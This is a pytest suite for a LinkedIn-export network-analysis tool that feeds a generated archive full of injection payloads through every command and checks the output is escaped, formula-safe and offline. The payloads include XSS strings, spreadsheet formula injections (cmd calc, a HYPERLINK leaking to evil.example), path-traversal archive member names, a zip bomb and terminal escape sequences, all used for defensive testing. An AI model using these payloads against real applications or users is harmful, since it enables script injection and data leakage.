"""Hostile input end to end: a generated export full of injection payloads, pushed through every command.

The export (a zip written by the test, never downloaded) has contacts whose names, companies and
positions, message contents, invitation notes, endorsements, recommendations and the owner's
headline carry HTML/script payloads, spreadsheet formulas, a right-to-left override, a 10 KB name,
emoji and quotes; plus broken rows and archive members named like paths. ``ties.csv`` and
``knows.csv`` carry payloads too, and rows that match nobody. Every command is run in-process from
a scratch working directory and its output is checked:

- no traceback, exit status 0;
- every CSV cell is formula-safe when read back with the csv module;
- GEXF and GraphML parse with networkx and keep the text exactly;
- HTML runs no script but its own (each allowed by hash in its Content-Security-Policy), has no
  ``on*=`` attribute, no ``javascript:`` URL, no reference to a server, and shows the payloads as text;
- nothing is written outside the folder the user names.
"""

import csv
import hashlib
import html
import html.parser
import io
import json
import re
import zipfile
from base64 import b64encode
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import netanalysis as na
from netanalysis._terminal import clean_for_terminal
from netanalysis.cli import build_parser, main

pytestmark = pytest.mark.hostile

# --------------------------------------------------------------------------------------------
# the corpus

LONG_NAME = "Loooong" + "o" * 10_000 + "name"  # a 10 KB field: kept (under the 1 MB limit), never truncated
RTL = "\u202eexe.txt Ferris"  # right-to-left override: shows reversed, must stay text
PAYLOADS = [
    '<script>alert("s1")</script>',
    "<img src=x onerror=alert(2)>",
    "javascript:alert(3)",
    '<a href="javascript:alert(4)">click</a>',
    "</textarea><script>alert(5)</script>",
    "{{constructor.constructor('alert(6)')()}}",
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    RTL,
    "🦄 Zoë \"quoted\" and 'single'",
    "</script><svg onload=alert(7)>",
    "<iframe src=https://evil.example/x></iframe>",
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "\tTabbed <b>bold</b>",
    LONG_NAME,
]
N = len(PAYLOADS)
# Companies shared by several contacts, so that same_company inference and circles have work to do.
COMPANIES = [PAYLOADS[1], PAYLOADS[6], PAYLOADS[12], "Plain & Sons <Ltd>"]
OWNER_URL = "https://www.linkedin.com/in/owen-hostile"
OWNER_NAME = "Owen <b>Hostile</b>"
EXPORT_NAME = "Basic_LinkedInDataExport_11-02-2026.zip"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What a contact is called after reading: first + last name, stripped (a leading tab is whitespace).
CONTACT_NAMES = [f"{p} Contact{i:02d}".strip() for i, p in enumerate(PAYLOADS)]


def _url(i):
    return f"https://www.linkedin.com/in/hostile-{i:02d}"


def _key(i):
    return f"linkedin.com/in/hostile-{i:02d}"


def _csv_text(header, rows, *, preamble=""):
    out = io.StringIO()
    out.write(preamble)
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def hostile_files(folder):
    """Write the hostile export, ties.csv and knows.csv into ``folder``; return their paths and expectations.

    Returns
    -------
    dict
        ``export``, ``ties``, ``knows`` (paths) and ``expect``: the rows each file holds and which
        of them must be reported as skipped or unmatched.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    first, last = "Owen", "<b>Hostile</b>"
    contacts = []
    for i, payload in enumerate(PAYLOADS):
        contacts.append([payload, f"Contact{i:02d}", _url(i), "", COMPANIES[i % len(COMPANIES)],
                         PAYLOADS[(i + 5) % N], f"{(i % 27) + 1:02d} Oct 2025"])
    # No URL: keyed by name + company.
    contacts.append([PAYLOADS[0], "NoUrl", "", "", PAYLOADS[7], PAYLOADS[3], "01 Nov 2025"])
    contacts.append(["", "", "", "", "", "", "02 Nov 2025"])  # a hidden member: skipped and reported
    contacts.append(["Extra", "Fields", _url(90), "", "Acme", "Boss", "03 Nov 2025", "x", "y"])  # skipped
    preamble = 'Notes:\n"When exporting your connection data, you may notice…"\n\n'
    connections = _csv_text(["First Name", "Last Name", "URL", "Email Address", "Company", "Position",
                             "Connected On"], contacts, preamble=preamble)
    messages = []
    for i, payload in enumerate(PAYLOADS[:12]):
        messages.append([f"2-conv{i:02d}==", PAYLOADS[(i + 1) % N], CONTACT_NAMES[i], _url(i), f"{first} {last}",
                         OWNER_URL, f"2026-10-{(i % 27) + 1:02d} 10:00:00 UTC", PAYLOADS[(i + 2) % N], payload,
                         "INBOX", "", "No"])
        messages.append([f"2-conv{i:02d}==", "", f"{first} {last}", OWNER_URL, CONTACT_NAMES[i], _url(i),
                         f"2026-10-{(i % 27) + 1:02d} 11:00:00 UTC", "", PAYLOADS[(i + 3) % N], "INBOX", "", "No"])
    messages_csv = _csv_text(["CONVERSATION ID", "CONVERSATION TITLE", "FROM", "SENDER PROFILE URL", "TO",
                              "RECIPIENT PROFILE URLS", "DATE", "SUBJECT", "CONTENT", "FOLDER", "ATTACHMENTS",
                              "IS MESSAGE DRAFT"], messages)
    invitations = [[CONTACT_NAMES[i], f"{first} {last}", "10/28/25, 8:55 PM", PAYLOADS[(i + 4) % N], "INCOMING",
                    _url(i), OWNER_URL] for i in range(0, N, 2)]
    invitations_csv = _csv_text(["From", "To", "Sent At", "Message", "Direction", "inviterProfileUrl",
                                 "inviteeProfileUrl"], invitations)
    endorsements = [[f"2026/10/{i + 1:02d} 04:26:48 UTC", PAYLOADS[(i + 6) % N], PAYLOADS[i], f"Contact{i:02d}",
                     _url(i).replace("https://", ""), "ACCEPTED"] for i in range(6)]
    endorsements_csv = _csv_text(["Endorsement Date", "Skill Name", "Endorser First Name", "Endorser Last Name",
                                  "Endorser Public Url", "Endorsement Status"], endorsements)
    recommendations = [[PAYLOADS[i], f"Contact{i:02d}", PAYLOADS[(i + 7) % N], PAYLOADS[(i + 8) % N],
                        PAYLOADS[(i + 9) % N], "02/13/24, 05:31 PM", "VISIBLE"] for i in range(4)]
    recommendations_csv = _csv_text(["First Name", "Last Name", "Company", "Job Title", "Text", "Creation Date",
                                     "Status"], recommendations)
    positions = [[PAYLOADS[i], PAYLOADS[i + 1], PAYLOADS[i + 2], PAYLOADS[10], f"Aug 20{10 + i}",
                  "" if i == 0 else f"Aug 20{11 + i}"] for i in range(4)]
    positions_csv = _csv_text(["Company Name", "Title", "Description", "Location", "Started On", "Finished On"],
                              positions)
    profile_csv = _csv_text(["First Name", "Last Name", "Headline", "Summary", "Industry", "Geo Location"],
                            [[first, last, PAYLOADS[3] + " | " + PAYLOADS[0], PAYLOADS[4], PAYLOADS[6], RTL]])
    export = folder / EXPORT_NAME
    with zipfile.ZipFile(export, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Connections.csv", connections)
        archive.writestr("messages.csv", messages_csv)
        archive.writestr("Invitations.csv", invitations_csv)
        archive.writestr("Endorsement_Received_Info.csv", endorsements_csv)
        archive.writestr("Recommendations_Received.csv", recommendations_csv)
        archive.writestr("Positions.csv", positions_csv)
        archive.writestr("Profile.csv", profile_csv)
        # Member names that look like paths: never used as paths, never read.
        archive.writestr("../../evil.csv", connections)
        archive.writestr("/etc/passwd", "root:x:0:0")
        archive.writestr("..\\..\\evil2.csv", connections)
    # ties.csv as a spreadsheet would save it (BOM); met in person for the first eight contacts.
    ties_rows = [[_key(i), CONTACT_NAMES[i], COMPANIES[i % len(COMPANIES)], "", "", "in person" if i < 8 else "online",
                  PAYLOADS[(i + 1) % N], "", "", PAYLOADS[(i + 2) % N], "", ""] for i in range(N)]
    ties_rows.append(["linkedin.com/in/nobody-here", PAYLOADS[1], "", "", "", "in person", "", "", "", PAYLOADS[6],
                      "", ""])  # matches no contact
    ties_rows.append(["", PAYLOADS[0] + " Ghost", "", "", "", "online", "", "", "", "", "", ""])  # neither
    ties = folder / "ties.csv"
    ties.write_text("\ufeff" + _csv_text(
        ["key", "name", "company", "position", "connected_on", "met", "where_met", "when_met", "last_contact",
         "notes", "suggested", "suggested_reason"], ties_rows), encoding="utf-8")
    # knows.csv: two blocks of contacts who know each other, plus pairs naming nobody.
    pairs = []
    for block in (range(0, 6), range(6, 12)):
        for a in block:
            for b in block:
                if a < b:
                    pairs.append([_key(a), _url(b), "in_person" if (a + b) % 2 else "", PAYLOADS[(a + b) % N]])
    pairs.append([PAYLOADS[7], _key(1), "", "formula as a person"])  # unmatched
    pairs.append([_key(2), "linkedin.com/in/ghost", "", PAYLOADS[0]])  # unmatched
    knows = folder / "knows.csv"
    knows.write_text("\ufeff" + _csv_text(["a", "b", "met", "note"], pairs), encoding="utf-8")
    return {
        "export": export, "ties": ties, "knows": knows,
        "expect": {
            "contacts": N + 1, "connections_rows": len(contacts), "connections_skipped": 2,
            "messages_rows": len(messages), "ties_rows": len(ties_rows), "ties_unmatched": 2,
            "knows_rows": len(pairs), "knows_unmatched": 2,
        },
    }


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    files = hostile_files(root / "input")
    export = na.read_export(files["export"])
    G = na.build_graph([export], ties=na.read_ties(files["ties"]), knows=na.read_knows(files["knows"]),
                       infer=("same_company",))
    return {**files, "root": root, "export_obj": export, "G": G}


# --------------------------------------------------------------------------------------------
# checks


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_formula_safe(path_or_text):
    """Every cell of a CSV file (read back with the csv module) is inert in a spreadsheet."""
    text = Path(path_or_text).read_text(encoding="utf-8-sig") if isinstance(path_or_text, Path) else path_or_text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows, "empty CSV"
    for line, row in enumerate(rows, 1):
        for cell in row:
            if cell.startswith(FORMULA_START) and not _is_number(cell):
                raise AssertionError(f"line {line}: cell {cell[:60]!r} would run as a formula")
    return rows


def _unquote_cell(cell):
    """The value a formula-safe cell stands for (the quote is added only before a formula start)."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell


class _Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.scripts, self.text, self.styles = [], [], [], []
        self._script = self._style = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._script = (dict(attrs), [])
        elif tag == "style":
            self._style = []

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script[0], "".join(self._script[1])))
            self._script = None
        elif tag == "style" and self._style is not None:
            self.styles.append("".join(self._style))
            self._style = None

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)
        elif self._style is not None:
            self._style.append(data)
        else:
            self.text.append(data)


_URL_ATTRS = ("src", "href", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset")


def check_page(page, *, depth=0):
    """Assert an HTML page is safe and self-contained; return its visible text (frames included).

    - a Content-Security-Policy meta that allows no server (``default-src 'none'``);
    - every ``<script>`` is JSON data or allowed by its SHA-256 hash in that policy;
    - no ``on*`` attribute, no ``javascript:`` URL, no URL to a server, no tag a payload brings
      (``img`` other than inline ``data:`` pictures, ``svg``, ``textarea``, ``a`` with a scheme);
    - ``srcdoc`` frames are checked the same way (they inherit the policy).
    """
    parser = _Page()
    parser.feed(page)
    parser.close()
    metas = [a for t, a in parser.tags if t == "meta" and (a.get("http-equiv") or "").lower() ==
             "content-security-policy"]
    assert len(metas) == 1, "the page has no Content-Security-Policy"
    policy = metas[0]["content"]
    assert "default-src 'none'" in policy and "connect-src 'none'" in policy
    assert "unsafe-inline" not in re.search(r"script-src([^;]*)", policy).group(1)
    allowed = set(re.findall(r"'sha256-([A-Za-z0-9+/=]+)'", policy))
    for attrs, body in parser.scripts:
        if attrs.get("type") == "application/json":
            assert "</" not in body
            continue
        assert "src" not in attrs
        digest = b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode()
        assert digest in allowed, f"a script not allowed by the page's policy: {body[:80]!r}"
    text = ["".join(parser.text)]
    for tag, attrs in parser.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), f"<{tag} {name}=…> comes from data"
            if name in _URL_ATTRS and value is not None:
                v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                assert not v.startswith(("javascript:", "vbscript:", "http:", "https:", "//", "ftp:")), \
                    f"<{tag} {name}={value[:60]!r}>"
                if name == "href":
                    assert v.startswith("#") or v.startswith("data:"), f"<{tag} href={value[:60]!r}>"
        assert tag not in ("svg", "textarea", "object", "embed", "base", "form", "link"), f"<{tag}> from data"
        if tag == "img":
            assert (attrs.get("src") or "").startswith("data:image/"), "an <img> that is not an inline picture"
        if tag == "iframe":
            assert "srcdoc" in attrs and "src" not in attrs and attrs.get("sandbox") == "allow-scripts"
            assert depth == 0
            text.append(check_page(attrs["srcdoc"], depth=depth + 1))
    # No style sheet or style attribute reaches a server (payload text inside the JSON data is inert).
    styles = [body for body in parser.styles] + [a["style"] for _, a in parser.tags if a.get("style")]
    for style in styles:
        assert not re.search(r"url\(\s*['\"]?\s*(https?:)?//", style, re.IGNORECASE), style[:80]
        assert "@import" not in style
    assert len(parser.styles) == sum(1 for t, _ in parser.tags if t == "style")
    return "\n".join(text)


def map_json(page):
    """The map's node and edge data from its JSON block (srcdoc frames unescaped by the parser)."""
    parser = _Page()
    parser.feed(page)
    for attrs, body in parser.scripts:
        if attrs.get("id") == "map-data":
            return json.loads(body)
    for tag, attrs in parser.tags:
        if tag == "iframe" and "srcdoc" in attrs:
            return map_json(attrs["srcdoc"])
    raise AssertionError("no map data in the page")


def _plain(text):
    """Undo the map's only change to text: a zero-width joiner inside 'href', control characters."""
    return "".join(ch for ch in text.replace("\u200d", "") if ch in "\n" or ord(ch) >= 32)


# --------------------------------------------------------------------------------------------
# reading and building: nothing lost, nothing changed


def test_every_file_accounts_for_every_row(world):
    export, expect = world["export_obj"], world["expect"]
    files = export.report.files
    assert set(files) >= {"Connections.csv", "messages.csv", "Invitations.csv", "Endorsement_Received_Info.csv",
                          "Recommendations_Received.csv", "Positions.csv", "Profile.csv"}
    for name, report in files.items():
        assert report.rows == report.used + len(report.skipped), name
    conn = files["Connections.csv"]
    assert (conn.rows, conn.used, len(conn.skipped)) == (expect["connections_rows"], expect["contacts"],
                                                         expect["connections_skipped"])
    assert files["messages.csv"].rows == expect["messages_rows"]
    # Archive members named like paths are listed as ignored, never read.
    ignored = export.report.ignored_files
    assert {"../../evil.csv", "/etc/passwd", "..\\..\\evil2.csv"} <= set(ignored)


def test_payloads_survive_reading_exactly(world):
    export = world["export_obj"]
    names = export.contacts["name"].tolist()
    for i, name in enumerate(CONTACT_NAMES):
        assert names[i] == name
    assert LONG_NAME + " Contact16" in names
    assert set(export.contacts["company"]) >= set(COMPANIES)
    assert export.profile["headline"] == PAYLOADS[3] + " | " + PAYLOADS[0]
    contents = set(export.messages["content"])
    assert set(PAYLOADS[:12]) <= contents
    assert set(export.invitations["message"]) >= {PAYLOADS[(i + 4) % N] for i in range(0, N, 2)}
    assert export.owner["identified_by"] in ("messages", "invitations", "profile")
    assert export.owner["key"] == "linkedin.com/in/owen-hostile"


def test_graph_drops_no_one_and_lists_unmatched(world):
    G, expect = world["G"], world["expect"]
    export = world["export_obj"]
    assert set(export.contacts["key"]) <= set(G)
    assert G.number_of_nodes() == expect["contacts"] + 1  # + the owner
    for i, name in enumerate(CONTACT_NAMES):
        assert G.nodes[_key(i)]["name"] == name
    ties = G.graph["ties_file"]
    assert ties["rows"] == expect["ties_rows"]
    assert ties["matched"] + len(ties["unmatched"]) + len(ties.get("skipped", [])) == ties["rows"]
    assert len(ties["unmatched"]) == expect["ties_unmatched"]
    assert {row["line"] for row in ties["unmatched"]} == {expect["ties_rows"], expect["ties_rows"] + 1}
    knows = G.graph["knows_file"]
    assert knows["rows"] == expect["knows_rows"]
    assert len(knows["unmatched"]) == expect["knows_unmatched"]
    # Every matched pair is a tie that lists "declared" among its sources ("added" counts only the
    # ties that did not exist before, e.g. not those already inferred from a shared company).
    declared = sum(1 for _, _, d in G.edges(data=True) if "declared" in d["sources"])
    assert declared == knows["rows"] - len(knows["unmatched"])
    assert sum(1 for _, _, d in G.edges(data=True) if d["sources"] == ["declared"]) == knows["added"]
    assert G.edges[G.graph["ego"], _key(0)]["met"] == "in_person"


def test_a_name_with_a_comma_matches_only_itself(world):
    from netanalysis.graph import _find_person

    G = world["G"]
    person, _ = _find_person(G, name=PAYLOADS[6] + " Unknown", among=set(G.neighbors(G.graph["ego"])))
    assert person is None


def test_a_merge_never_drops_a_person(tmp_path):
    path = tmp_path / "Connections.csv"
    path.write_text("First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
                    '"Smith, John",Doe,https://www.linkedin.com/in/jsmith,,Acme,Eng,01 Jan 2020\n'
                    '"Smith, Jane",Roe,,,Acme,Eng,01 Jan 2020\n', encoding="utf-8")
    export = na.read_export(path)
    assert len(export.contacts) == 2
    G = na.build_graph([export])
    assert sorted(d["name"] for n, d in G.nodes(data=True) if not d.get("ego")) == ["Smith, Jane Roe", "Smith, John Doe"]


# --------------------------------------------------------------------------------------------
# the command line, in-process, from a scratch working directory


def _commands():
    return {name for name in build_parser()._subparsers._group_actions[0].choices}


def _run(args, capsys):
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "internal error" not in err, err[-2000:]
    return code, out, err


@pytest.fixture
def scratch(tmp_path, monkeypatch):
    """A working directory that must stay empty, and an output folder beside it."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    out = tmp_path / "out"
    monkeypatch.chdir(cwd)
    yield cwd, out
    assert sorted(p.name for p in cwd.iterdir()) == [], "a command wrote into the working directory"
    assert sorted(p.name for p in tmp_path.iterdir()) in (["cwd"], ["cwd", "out"])


def _graph_args(world):
    return [world["export"], "--ties", world["ties"], "--knows", world["knows"], "--infer", "same_company"]


def test_inspect_json_accounts_for_everything(world, scratch, capsys):
    code, out, _ = _run(["inspect", *_graph_args(world), "--json"], capsys)
    assert code == 0
    data = json.loads(out)
    files = data["exports"][0]["files"]
    for name, info in files.items():
        assert info["rows"] == info["used"] + len(info["skipped"]), name
    assert len(data["ties_file"]["unmatched"]) == 2
    assert [row["name"] for row in data["ties_file"]["unmatched"]] == [PAYLOADS[1], PAYLOADS[0] + " Ghost"]
    assert len(data["knows_file"]["unmatched"]) == 2
    # The text form prints the same payloads as plain text, without failing on any of them.
    code, out, _ = _run(["inspect", *_graph_args(world)], capsys)
    assert code == 0 and PAYLOADS[1] in out


@pytest.mark.parametrize("people", [False, True])
def test_communities_csv_is_formula_safe_and_json_exact(world, scratch, capsys, people):
    extra = ["--people"] if people else []
    code, out, _ = _run(["communities", *_graph_args(world), *extra, "--format", "csv"], capsys)
    assert code == 0
    rows = assert_formula_safe(out)
    code, out, _ = _run(["communities", *_graph_args(world), *extra, "--format", "json"], capsys)
    assert code == 0
    records = json.loads(out)
    assert len(records) == len(rows) - 1
    if people:
        names = {r["name"] for r in records}
        assert set(CONTACT_NAMES) <= names
        # The CSV holds the same text, a quote added only in front of formulas.
        header = rows[0]
        csv_names = {_unquote_cell(r[header.index("name")]) for r in rows[1:]}
        # Printed, a bidi override shows as its escape \u202e (JSON decodes it back to the character).
        assert csv_names == {clean_for_terminal(name) for name in names}


def test_map_is_escaped_offline_and_self_contained(world, scratch, capsys):
    _, out = scratch
    target = out / "deep" / "map.html"
    code, _, err = _run(["map", *_graph_args(world), "-o", target, "--title", PAYLOADS[4]], capsys)
    assert code == 0, err
    page = target.read_text(encoding="utf-8")
    text = check_page(page)
    assert PAYLOADS[4] in text  # the title, as text
    data = map_json(page)
    labels = {_plain(n["label"]) for n in data["nodes"]}
    for name in CONTACT_NAMES:
        assert _plain(name) in labels
    titles = "\n".join(_plain(n["title"]) for n in data["nodes"])
    for company in COMPANIES:
        assert _plain(company) in titles
    assert sorted(p.name for p in out.rglob("*")) == ["deep", "map.html"]


def test_map_refuses_a_non_html_name(world, scratch, capsys):
    code, _, err = _run(["map", *_graph_args(world), "-o", "../evil.sh"], capsys)
    assert code == 2 and "netanalysis: error:" in err


@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
def test_graph_files_keep_text_exactly(world, scratch, capsys, fmt):
    _, out = scratch
    target = out / f"net.{fmt}"
    code, _, err = _run(["export", *_graph_args(world), "--format", fmt, "-o", target], capsys)
    assert code == 0, err
    H = (nx.read_gexf if fmt == "gexf" else nx.read_graphml)(target)
    G = world["G"]
    assert H.number_of_nodes() == G.number_of_nodes() and H.number_of_edges() == G.number_of_edges()
    for n, attrs in G.nodes(data=True):
        for field in ("name", "company", "position"):
            if attrs.get(field):
                assert H.nodes[n][field] == attrs[field], (n, field)
    if fmt == "gexf":
        assert H.nodes[_key(0)]["label"] == CONTACT_NAMES[0]


def test_csv_export_is_formula_safe_and_complete(world, scratch, capsys):
    _, out = scratch
    code, _, err = _run(["export", *_graph_args(world), "--format", "csv", "-o", out / "gephi"], capsys)
    assert code == 0, err
    nodes = assert_formula_safe(out / "gephi" / "nodes.csv")
    edges = assert_formula_safe(out / "gephi" / "edges.csv")
    G = world["G"]
    assert len(nodes) - 1 == G.number_of_nodes() and len(edges) - 1 == G.number_of_edges()
    header = nodes[0]
    by_id = {r[header.index("Id")]: r for r in nodes[1:]}
    for i, name in enumerate(CONTACT_NAMES):
        assert _unquote_cell(by_id[_key(i)][header.index("Label")]) == name


_TABLE_COMMANDS = [
    ("strength", []), ("dormant", []), ("audience", ["--keywords", "alert", "script"]),
    ("introductions", []), ("paths", ["--to", PAYLOADS[6]]), ("paths", ["--to", CONTACT_NAMES[1]]),
    ("holes", []), ("roles", []),
]


@pytest.mark.parametrize(("command", "extra"), _TABLE_COMMANDS, ids=[f"{c}-{i}" for i, (c, _) in enumerate(_TABLE_COMMANDS)])
def test_analysis_commands_survive(world, scratch, capsys, command, extra):
    assert command in _commands()
    for fmt in ("csv", "json", "table"):
        code, out, err = _run([command, *_graph_args(world), *extra, "--format", fmt], capsys)
        assert code in (0, 2), err
        if code == 2:  # a user error: one line, naming what to do
            assert err.startswith("netanalysis: error:") and err.count("\n") == 1
            continue
        if fmt == "csv" and out.strip():
            assert_formula_safe(out)
        if fmt == "json":
            json.loads(out)


def test_report_is_escaped_offline_and_self_contained(world, scratch, capsys):
    _, out = scratch
    target = out / "rep"
    assert "report" in _commands()
    code, _, err = _run(["report", *_graph_args(world), "--out", target, "--to", PAYLOADS[6],
                         "--format", "csv"], capsys)
    assert code == 0, err
    page = (target / "report.html").read_text(encoding="utf-8")
    text = check_page(page)
    for payload in (PAYLOADS[0], PAYLOADS[1], PAYLOADS[12]):
        assert payload in text
    for path in target.glob("*.csv"):
        assert_formula_safe(path)
    H = nx.read_gexf(target / "network.gexf")
    assert H.nodes[_key(1)]["name"] == CONTACT_NAMES[1]
    assert not list(target.glob(".*")), "staging files left behind"


def test_one_damaged_byte_does_not_garble_the_file(scratch, capsys):
    # A UTF-8 export with one damaged byte stays UTF-8: only that byte is replaced, and noted.
    _, out = scratch
    out.mkdir()
    path = out / "Connections.csv"
    path.write_bytes(("First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
                      "Hélène,Dubé,,,Café Ltée,Eng,01 Jan 2020\nRéjean,Gagné,,,Acme,Eng,01 Jan 2020\n").encode()
                     + b"Bad,By\xfft,,,Acme,Eng,01 Jan 2020\n")
    code, stdout, _ = _run(["inspect", path, "--json"], capsys)
    assert code == 0
    info = json.loads(stdout)["exports"][0]["files"]["Connections.csv"]
    assert info["encoding"] == "utf-8" and info["notes"] == ["replaced 1 bytes that are not valid UTF-8 (shown as \ufffd)"]
    code, stdout, _ = _run(["communities", path, "--people", "--format", "json"], capsys)
    assert {r["name"] for r in json.loads(stdout)} >= {"Hélène Dubé", "Réjean Gagné", "Bad By\ufffdt"}


def test_terminal_escapes_never_reach_the_terminal(scratch, capsys):
    # ESC sequences in a name would recolour the terminal, rewrite its title or plant a hyperlink
    # (OSC 8) when a table is printed; the reader removes control characters and says so.
    _, out = scratch
    out.mkdir()
    path = out / "Connections.csv"
    path.write_text("First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
                    "Ana\x1b[2J\x1b]0;pwned\x07,Lima\x1b]8;;http://evil.example\x07link\x1b]8;;\x07,"
                    "https://www.linkedin.com/in/ana,,Acme\x9b31m,Eng,01 Jan 2020\n", encoding="utf-8")
    code, stdout, _ = _run(["inspect", path], capsys)
    assert code == 0 and "removed 8 control characters" not in stdout  # notes are in --json
    code, stdout, _ = _run(["inspect", path, "--json"], capsys)
    assert json.loads(stdout)["exports"][0]["files"]["Connections.csv"]["notes"] == ["removed 8 control characters"]
    for fmt in ("table", "csv", "json"):
        code, stdout, _ = _run(["communities", path, "--people", "--format", fmt], capsys)
        assert code == 0 and "\x1b" not in stdout and "\x9b" not in stdout and "\x07" not in stdout
    assert "Ana[2J]0;pwned Lima]8;;http://evil.examplelink]8;;" in stdout


def test_xml_exports_survive_forbidden_characters(scratch, capsys):
    # U+FFFE/U+FFFF are valid UTF-8 but not XML; a %01 in a profile URL survives into the key. Both
    # used to give a GEXF/GraphML that no reader opens, or two people merged into one node.
    _, out = scratch
    out.mkdir()
    path = out / "Connections.csv"
    path.write_text("First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
                    "Bob,One,https://www.linkedin.com/in/bob%01,,Acme,Eng,01 Jan 2020\n"
                    "Bob,Two,https://www.linkedin.com/in/bob,,Acme,Eng,01 Jan 2020\n"
                    "Non\uffffchar,X\ufffe,https://www.linkedin.com/in/nonchar,,Acme,Eng,01 Jan 2020\n", encoding="utf-8")
    for fmt, reader in (("gexf", nx.read_gexf), ("graphml", nx.read_graphml)):
        target = out / f"n.{fmt}"
        code, _, err = _run(["export", path, "--format", fmt, "-o", target], capsys)
        assert code == 0, err
        H = reader(target)
        assert H.number_of_nodes() == 4  # three contacts and the owner
        assert sorted(name for _, name in H.nodes(data="name") if name.startswith(("Bob", "Non"))) == [
            "Bob One", "Bob Two", "Nonchar X"]


# --------------------------------------------------------------------------------------------
# broken input and impossible output: one clear line and status 2, never a traceback

_GOOD = ("First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
         "Ana,Lima,https://www.linkedin.com/in/ana-lima,,Acme,Eng,01 Jan 2020\n"
         "Bo,Chen,https://www.linkedin.com/in/bo-chen,,Acme,Eng,02 Jan 2020\n")


def _bomb(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Connections.csv", _GOOD)
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    data[at + 24:at + 28] = (0xF0000000).to_bytes(4, "little")  # declares 3.75 GiB
    path.write_bytes(bytes(data))


_BROKEN = {
    # name: (files to write {name: bytes or callable}, arguments, text the message must contain)
    "png": ({"Connections.csv": b"\x89PNG\r\n\x1a\n" + bytes(100)}, ["Connections.csv"], "Connections.csv is a PNG"),
    "pdf-ties": ({"Connections.csv": _GOOD.encode(), "ties.csv": b"%PDF-1.7\n" + bytes(50)},
                 ["Connections.csv", "--ties", "ties.csv"], "ties.csv is a PDF"),
    "knows-no-columns": ({"Connections.csv": _GOOD.encode(), "knows.csv": b"x,y\n1,2\n"},
                         ["Connections.csv", "--knows", "knows.csv"], "knows.csv"),
    "bomb": ({"Basic_LinkedInDataExport_01-01-2026.zip": _bomb}, ["Basic_LinkedInDataExport_01-01-2026.zip"],
             "would unpack to"),
    "missing": ({}, ["nowhere/Connections.csv"], "Connections.csv"),
    "empty-folder": ({"export/notes.txt": b"hello"}, ["export"], "export"),
    "empty-file": ({"Connections.csv": b""}, ["Connections.csv"], "Connections.csv is empty"),
    "unknown-ego": ({"Connections.csv": _GOOD.encode()}, ["Connections.csv", "--ego", "<script>x</script>"],
                    "<script>x</script>"),
}


@pytest.mark.parametrize("case", sorted(_BROKEN))
@pytest.mark.parametrize("command", ["inspect", "communities", "map"])
def test_broken_input_is_one_clear_line(scratch, capsys, case, command):
    _, out = scratch
    files, args, expected = _BROKEN[case]
    for name, content in files.items():
        path = out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        content(path) if callable(content) else path.write_bytes(content)
    args = [str(out / a) if i == 0 or args[i - 1] in ("--ties", "--knows") else a for i, a in enumerate(args)]
    extra = ["-o", str(out / "m.html")] if command == "map" else []
    code, stdout, err = _run([command, *args, *extra], capsys)
    assert code == 2, (stdout, err)
    assert err.startswith("netanalysis: error: ") and err.count("\n") == 1 and expected in err, err
    assert not (out / "m.html").exists()


@pytest.mark.parametrize("target", ["file-as-folder", "folder-as-file"])
@pytest.mark.parametrize("command", ["map", "export-gexf", "export-graphml", "export-csv"])
def test_impossible_output_path_is_one_clear_line(scratch, capsys, target, command):
    _, out = scratch
    out.mkdir()
    (out / "Connections.csv").write_text(_GOOD, encoding="utf-8")
    (out / "taken").write_text("a file, not a folder")
    (out / "folder.html").mkdir()
    if target == "file-as-folder":
        path = out / "taken" / "x.html"
    else:
        path = out / "folder.html"
    if command == "map":
        args = ["map", out / "Connections.csv", "-o", path]
    else:
        args = ["export", out / "Connections.csv", "--format", command.split("-")[1], "-o", path]
    if command == "export-csv" and target == "folder-as-file":
        args[-1] = out / "taken"
    code, _, err = _run(args, capsys)
    assert code == 2, err
    assert err.startswith("netanalysis: error: ") and err.count("\n") == 1, err
    assert (out / "taken").read_text() == "a file, not a folder"


def test_a_lone_carriage_return_cannot_start_a_new_row(tmp_path):
    # The csv writer leaves "x\r=1+1" unquoted when it ends lines with "\n"; a spreadsheet then
    # starts a new row at the CR, whose first cell is a formula.
    from netanalysis.cli.common import emit_table
    from netanalysis.export import write_csv

    df = pd.DataFrame({"name": ["x\r=1+1", "y\r\n@SUM(1)", "z"], "n": [1, 2, 3]})
    stream = io.StringIO()
    emit_table(df, "csv", stream=stream)
